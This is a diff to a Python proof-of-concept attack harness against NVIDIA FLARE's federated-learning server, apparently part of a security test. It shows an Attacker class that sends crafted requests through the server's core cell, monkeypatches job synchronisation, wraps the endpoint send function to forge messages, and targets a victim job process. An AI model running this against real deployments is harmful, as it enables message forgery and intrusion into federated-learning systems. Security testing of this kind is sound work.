@@ -6,7 +6,6 @@ Words: KIT LEAD VICTIM SECRET MARKER ANSWERS. ANSWERS gets one JSON line
 
 from __future__ import annotations
 
-import gc
 import io
 import json
 import runpy
@@ -54,11 +53,11 @@ def note(attack: str, code: object = "", answer: object = "") -> None:
 
 
 class Attacker:
-    def __init__(self, cell):
-        self.cell = cell
+    def __init__(self, core):
+        self.core = core
 
     def ask(self, channel, topic, request, target=victim, timeout=4):
-        reply = self.cell.core_cell.send_request(
+        reply = self.core.send_request(
             channel=channel, topic=topic, target=target, request=request, timeout=timeout
         )
         return reply.get_header("cn__return_code"), getattr(reply.payload, "body", reply.payload)
@@ -96,13 +95,13 @@ class Attacker:
 
 
 def attack() -> None:
-    from nvflare.fuel.f3.cellnet.cell import Cell
+    from nvflare.fuel.f3.cellnet.core_cell import CoreCell
     from nvflare.private.fed.server.fed_server import FederatedServer
 
     FederatedServer._sync_client_jobs = lambda *_: []  # or it would have its unknown job ended
-    while not (cells := [found for found in gc.get_objects() if isinstance(found, Cell)]):
+    while not (core := CoreCell.ALL_CELLS.get("server")) or not core.running:
         time.sleep(0.3)
-    attacker = Attacker(cells[0])
+    attacker = Attacker(core)
     attacker.wait_for(lambda: attacker.command("train.check_status", ""), "ok")
     commands(attacker)
     deployments(attacker)
@@ -144,7 +143,7 @@ def addresses(attacker: Attacker) -> None:
     from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
     from nvflare.fuel.f3.message import Message
 
-    core = attacker.cell.core_cell
+    core = attacker.core
     send = core._send_to_endpoint
 
     def forged(endpoint, message, *args, **kwargs):
@@ -176,7 +175,7 @@ def the_job_process(attacker: Attacker) -> None:
     note("honest app", *attacker.command("train.deploy", app()))
     note("honest start", *attacker.start())
     process = f"{victim}.{JOB}"
-    core = attacker.cell.core_cell
+    core = attacker.core
     deadline = time.monotonic() + 40
     while process not in core.agents and time.monotonic() < deadline:
         time.sleep(0.2)
